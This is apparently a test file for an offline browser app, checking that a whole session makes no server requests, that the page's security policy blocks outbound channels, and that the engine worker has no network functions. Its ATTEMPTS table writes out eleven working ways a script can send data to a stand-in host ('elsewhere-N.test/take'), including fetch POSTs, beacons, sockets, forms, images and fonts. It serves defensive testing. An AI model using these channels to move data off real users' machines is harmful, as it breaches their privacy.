// Nothing leaves the machine: not in a whole session, which asks nobody anything once the page is there,
// and not by a program that tried, which the page's policy stops.
import assert from 'node:assert/strict';
import {readFileSync} from 'node:fs';
import path from 'node:path';
import {after, test} from 'node:test';
import {build, removeBuilds} from './builds.mjs';
import {drawnField, settled} from './fields.mjs';
import {choose, chromiumForTests, manifestOf, PATIENCE, smallModel} from './harness.mjs';

const timeout = 4 * PATIENCE.cpu;
const folder = build();
after(removeBuilds);

const {visit, open} = chromiumForTests();

/** Takes a file from the page, as a visitor saves it. */
async function saved(page, button) {
  const coming = page.waitForEvent('download');
  await page.click(button);
  assert.ok(readFileSync(await (await coming).path()).length > 0, button);
}

// `visit` counts what goes elsewhere; here what goes to the page's own server is counted as well.
test('a whole session after loading asks nothing of any server', {timeout}, async () => {
  await open(async (page, {site}) => {
    await page.waitForSelector('#offline[data-state="ready"]', {timeout: PATIENCE.cpu});
    const asked = site.requests.length;

    await page.setInputFiles('#files', drawnField('secret'));
    assert.equal((await settled(page, 'secret')).state, 'done');
    await page.waitForSelector('#viewer[data-state="shown"]', {timeout: PATIENCE.cpu});
    await page.click('#viewer [data-do="in"]');
    await page.click('#viewer [data-channel="red"][data-do="toggle"]');
    await page.locator('#answer .bar').first().click();
    await page.locator('#viewer .map').waitFor();

    for (const what of ['table', 'document', 'picture']) {
      await page.click('#export');
      await saved(page, `[data-export="${what}"]`);
    }

    await choose(page, '#open-diagnostics');
    await page.click('#close-diagnostics');

    await choose(page, '#open-quiz');
    await page.click('[data-quiz="begin"]');
    await page.waitForSelector('#quiz-form:not([hidden])', {timeout: PATIENCE.cpu});
    await page.check('#quiz [name="location"][value="none"]');
    await page.click('#quiz-form [type="submit"]');
    await page.waitForSelector('#quiz-reveal:not([hidden])', {timeout: PATIENCE.cpu});
    await page.click('[data-quiz="leave"]');

    const own = {...manifestOf(smallModel()), name: 'A secret model'};
    await page.setInputFiles('#files', [
      {name: 'manifest.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(own))},
      {name: 'weights.safetensors', mimeType: 'application/octet-stream', buffer: readFileSync(path.join(smallModel(), 'weights.safetensors'))},
    ]);
    const isOpen = () => document.body.dataset.engine === 'ready' && document.querySelector('#model-name').textContent === 'A secret model';
    await page.waitForFunction(isOpen, null, {timeout: PATIENCE.cpu});
    await page.setInputFiles('#files', drawnField('another'));
    assert.equal((await settled(page, 'another')).state, 'done');

    // When the engine starts again, the browser itself looks whether its service worker is still the newest.
    assert.deepEqual(site.requests.slice(asked).filter((address) => address !== '/service-worker.js'), []);
  }, {folder, serviceWorkers: 'allow'});
});

// A page can still be left for another address; no policy forbids that, and nothing in the page does it.
const ATTEMPTS = {
  'a fetch': (address) => fetch(address, {method: 'POST', body: 'pixels', mode: 'no-cors'}).catch(() => {}),
  'a beacon': (address) => navigator.sendBeacon(address, 'pixels'),
  'an old request': (address) => {
    const request = new XMLHttpRequest();
    request.open('POST', address);
    request.send('pixels');
  },
  'a socket': (address) => new WebSocket(address.replace('http', 'ws')),
  'a stream of events': (address) => new EventSource(address),
  'a picture': (address) => {
    new Image().src = `${address}?pixels`;
  },
  'a form': (address) => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = address;
    form.method = 'post';
    form.submit();
  },
  'a script': (address) => {
    document.head.appendChild(document.createElement('script')).src = address;
  },
  'a style': (address) => {
    const link = document.head.appendChild(document.createElement('link'));
    link.rel = 'stylesheet';
    link.href = address;
  },
  'a frame': (address) => {
    document.body.appendChild(document.createElement('iframe')).src = address;
  },
  'a font': (address) => {
    new FontFace('elsewhere', `url(${address})`).load().catch(() => {});
  },
};

test('the policy stops every way to elsewhere', {timeout}, async (t) => {
  await visit(async (page) => {
    await page.waitForFunction(() => document.readyState === 'complete');
    await page.evaluate(() => {
      window.stopped = [];
      addEventListener('securitypolicyviolation', ({blockedURI}) => window.stopped.push(blockedURI));
    });
    for (const [at, [what, attempt]] of Object.entries(ATTEMPTS).entries()) {
      await t.test(what, async () => {
        // Of a frame only the host is told: each attempt has one of its own.
        const host = `elsewhere-${at}.test`;
        await page.evaluate(attempt, `http://${host}/take`).catch(() => {});
        await page.waitForFunction((host) => window.stopped.some((address) => address.includes(host)), host, {timeout: 10_000});
      });
    }
    // That nothing was asked of them, `visit` asserts. The policy is the page's, so the engine need not come.
  }, {changes: {'/cpu_engine_relaxed_bg.wasm.gz': 404}, breaksPolicy: true});
});

test('the engine has no function that asks a network', {timeout}, async () => {
  await open(async (page) => {
    const [worker] = page.workers();
    const ways = ['fetch', 'XMLHttpRequest', 'WebSocket', 'WebTransport', 'EventSource', 'importScripts', 'Worker'];
    assert.deepEqual(await worker.evaluate((ways) => ways.filter((way) => globalThis[way] !== undefined), ways), []);
  });
});
